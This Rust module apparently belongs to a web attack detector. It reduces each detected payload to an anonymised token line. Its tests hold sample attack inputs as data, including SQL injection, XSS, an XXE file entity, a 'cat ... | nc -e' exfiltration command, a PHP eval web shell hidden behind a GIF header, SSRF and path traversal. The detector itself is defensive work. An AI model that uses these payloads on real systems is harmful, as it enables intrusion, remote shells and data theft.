//! The tokens of a finding: the part that tells, as the attacked interpreter's lexer reads it.
//!
//! What comes in: class and technique of a hit, the value and the span of the hit. What goes out: a line such as
//! `string-end or number = number comment`. What always holds: bounded ([`TOKENS`], [`READ`]); only words of the
//! language itself are shown, of names, numbers and literals only that they are there, so that the line holds no secret
//! and is the same for all attacks of one shape. To add one: a language is a file here and an arm in [`read`].

mod address;
mod code;
mod declaration;
mod lines;
mod markup;
mod shell;
mod sql;

use crate::detect::Class;
use smallvec::SmallVec;
use std::fmt::Write;
use std::ops::Range;

/// Most tokens of a reading; `...` stands for the rest.
pub(crate) const TOKENS: usize = 24;
/// Most bytes of the value that are read.
const READ: usize = 512;
/// Longest word of a language that is shown.
const WORD: usize = 32;
/// Length of most readings, in bytes.
const LINE: usize = 96;

/// Reads `span` of `bytes`. With `secret`, the words of the language are hidden too: part of a password may be one.
pub(crate) fn read(class: Class, technique: &str, bytes: &[u8], span: Range<usize>, secret: bool) -> String {
    let start = span.start.min(span.end).min(bytes.len());
    // Of a file only the mark that begins its code is told: what follows is the code.
    let end = if class == Class::Upload { bytes.len() } else { span.end.min(bytes.len()) };
    let cut = end - start > READ;
    let end = end.min(start + READ);
    let mut out = Out { secret, text: String::with_capacity(LINE), ..Out::default() };
    let text = bytes.get(start..end).unwrap_or_default();
    match class {
        Class::Sqli => sql::read(bytes.get(..end).unwrap_or_default(), start, &mut out),
        Class::Xss if technique == "script-code" => code::read(text, &mut out),
        Class::Xss | Class::Ssi | Class::Esi => markup::read(text, &mut out),
        Class::Xxe => declaration::read(text, &mut out),
        Class::Rce if is_shell(technique) => shell::read(text, &mut out),
        Class::Ptrav => address::path(text, &mut out),
        Class::Scanner if technique == "callback-host" => address::url(text, &mut out),
        Class::Scanner if !matches!(technique, "agent" | "header") => address::path(text, &mut out),
        Class::Ssrf | Class::Redir | Class::Rfi => address::url(text, &mut out),
        Class::Crlf | Class::Mail => lines::read(text, &mut out),
        Class::Upload if text.contains(&b'<') && !text.starts_with(b"<?") && !text.starts_with(b"<%") => {
            markup::read(text, &mut out)
        }
        _ => code::read(text, &mut out),
    }
    if cut {
        out.cut();
    }
    out.text
}

/// Whether the shell's lexer reads what this technique of `rce` is about.
fn is_shell(technique: &str) -> bool {
    [
        "command-separator",
        "command-pipe",
        "command-substitution",
        "shell-",
        "hidden-",
        "reverse-",
        "windows-",
        "fork-",
    ]
    .iter()
    .any(|of| technique.starts_with(of))
        || matches!(technique, "shellshock" | "powershell" | "")
}

/// A reading as it grows.
#[derive(Debug, Default)]
struct Out {
    text: String,
    count: usize,
    /// How often the last token was written in a row.
    times: usize,
    /// Where the last token stands.
    last: Range<usize>,
    secret: bool,
    full: bool,
}

impl Out {
    /// Adds a token by what it is. A token that comes again and again is counted: `up x6`.
    fn put(&mut self, token: &str) {
        if self.full {
            return;
        }
        let again = self.text.get(self.last.clone()) == Some(token);
        if again && token.starts_with(|c: char| c.is_ascii_lowercase()) {
            self.times += 1;
            self.text.truncate(self.last.end);
            // Writing to a string does not fail.
            let _ = write!(self.text, " x{}", self.times);
            return;
        }
        if self.count == TOKENS {
            return self.cut();
        }
        (self.count, self.times) = (self.count + 1, 1);
        if !self.text.is_empty() {
            self.text.push(' ');
        }
        let start = self.text.len();
        self.text += token;
        self.last = start..self.text.len();
    }

    /// Adds a word of the language itself, in lower case.
    fn word(&mut self, before: &str, word: &[u8]) {
        let plain = word.iter().all(u8::is_ascii_graphic) && !word.is_empty() && word.len() <= WORD;
        if self.secret || !plain {
            return self.put("word");
        }
        let mut token: SmallVec<[u8; 2 * WORD]> = SmallVec::from_slice(before.as_bytes());
        token.extend_from_slice(word);
        if let Some(word) = token.get_mut(before.len()..) {
            word.make_ascii_lowercase();
        }
        self.put(std::str::from_utf8(&token).unwrap_or("word"));
    }

    /// Adds a sign as it is: operators and brackets.
    fn sign(&mut self, sign: &[u8]) {
        match std::str::from_utf8(sign) {
            Ok(text) if sign.len() <= 4 && sign.iter().all(u8::is_ascii_punctuation) => self.put(text),
            _ => self.put("other"),
        }
    }

    /// Says that there is more.
    fn cut(&mut self) {
        if !self.full {
            self.text += " ...";
            self.full = true;
        }
    }
}

/// Whether the sorted, lower-case `list` has `word`, in any case.
fn knows(list: &[&str], word: &[u8]) -> bool {
    let mut lower = [0u8; WORD];
    let Some(lower) = lower.get_mut(..word.len()) else { return false };
    lower.copy_from_slice(word);
    lower.make_ascii_lowercase();
    list.binary_search_by(|known| known.as_bytes().cmp(lower)).is_ok()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::FACTS;
    use proptest::prelude::*;

    fn tokens(class: Class, technique: &str, text: &str) -> String {
        read(class, technique, text.as_bytes(), 0..text.len(), false)
    }

    #[test]
    fn readings_name_the_shape_and_no_literal() {
        use Class::*;
        for (class, technique, text, want) in [
            (Sqli, "tautology", "' OR 7=7 -- x", "string-end or number = number comment"),
            (Sqli, "tautology", "'x' = 'x'", "string = string"),
            (Sqli, "tautology", "x' or 'a'='a", "name string-end or string = open-string"),
            (
                Sqli,
                "union-select",
                "-1 UNION ALL SELECT pin, sleep(2)#",
                "- number union all select name , sleep ( number ) comment",
            ),
            (
                Xss,
                "event-handler",
                "<img src=x onerror=alert(1)>",
                "<img src = value onerror = alert ( number ) >",
            ),
            (Xss, "attribute-handler", "\" onfocus=\"steal('me')", "attribute-end onfocus = name ( string )"),
            (Xss, "script-url", "<a href=javascript:alert(1)>", "<a href = javascript: alert ( number ) >"),
            (Xss, "script-code", "';alert(1)//", "string-end ; alert ( number ) comment"),
            (
                Xxe,
                "external-entity",
                "<!ENTITY x SYSTEM \"file:///etc/x\">",
                "<!entity name system file-url >",
            ),
            (
                Rce,
                "command-separator",
                "; cat /etc/x | nc -e 10.0.0.1",
                "; command path | command option word",
            ),
            (Rce, "hidden-command", "$(c'a't $IFS/x)", "$( command[quoted] path[expanded] )"),
            (Rce, "command-call", "system('id')", "name ( string )"),
            (Ptrav, "dot-dot", "../../..\\etc/x", "up x3 name / name"),
            (Ptrav, "absolute-path", "c:\\boot.ini", "drive \\ name"),
            (Scanner, "probe-path", "/.git/config", "/ name / name"),
            (Upload, "php-code", "<?php system('id');", "< ? php name ( string ) ;"),
            (
                Ssrf,
                "internal-host",
                "http://me:pw@127.0.0.1:80/x",
                "http: // user @ loopback-address : port path",
            ),
            (Crlf, "header-field", "\r\nSet-Cookie: a=b\r\n\r\nhi", "line-end field : text line-end x2 text"),
            (Mail, "imap-command", "x\r\nA1 FETCH 1", "text line-end tag fetch text"),
            (Mail, "smtp-command", "\r\nRCPT TO:<a@b>", "line-end rcpt to : text"),
            (Ssi, "directive", "<!--#exec cmd=\"id\"-->", "<!--# exec attribute = value -->"),
            (Ldapi, "filter-component", "*)(|(uid=*", "* ) ( | ( name = *"),
            (Nosqli, "query-operator", "$ne", "$ne"),
            (Ssti, "arithmetic-probe", "{{7*7}}", "{ { number * number } }"),
            (Ssti, "server-code", "${7*7}", "$ { number * number }"),
        ] {
            assert_eq!(tokens(class, technique, text), want, "{text}");
        }
    }

    #[test]
    fn the_code_of_a_file_is_read_beyond_its_mark() {
        let text = b"GIF89a<?php eval($_POST['a']);";
        assert_eq!(read(Class::Upload, "web-shell", text, 6..8, false), "< ? php eval ( name [ string ] ) ;");
    }

    #[test]
    fn lists_are_sorted() {
        for list in [
            code::WORDS,
            declaration::WORDS,
            lines::VERBS,
            markup::ELEMENTS,
            markup::ATTRIBUTES,
            markup::RUNS,
        ] {
            assert!(list.is_sorted(), "{list:?}");
        }
        for list in [markup::DIRECTIVES, address::SCHEMES] {
            assert!(list.is_sorted() && knows(list, list[0].to_uppercase().as_bytes()), "{list:?}");
        }
    }

    #[test]
    fn a_secret_shows_no_word_at_all() {
        let text = b"select' or 1=1";
        assert_eq!(read(Class::Sqli, "", text, 0..text.len(), true), "word string-end word number = number");
    }

    #[test]
    fn a_long_value_is_cut() {
        let text = "a,1;".repeat(400);
        let told = tokens(Class::Sqli, "", &text);
        assert!(told.ends_with(" ...") && told.split(' ').count() == TOKENS + 1, "{told}");
    }

    proptest! {
        #[test]
        fn any_span_of_any_bytes(bytes in prop::collection::vec(any::<u8>(), 0..700), a in 0usize..800, b in 0usize..800, secret: bool) {
            for facts in FACTS {
                for technique in ["", "script-code", "command-call"] {
                    let text = read(facts.class, technique, &bytes, a..b, secret);
                    prop_assert!(text.len() <= (TOKENS + 1) * (WORD + 24), "{}", text.len());
                    prop_assert!(text.bytes().all(|b| b.is_ascii_graphic() || b == b' '), "{text}");
                }
            }
        }
    }
}
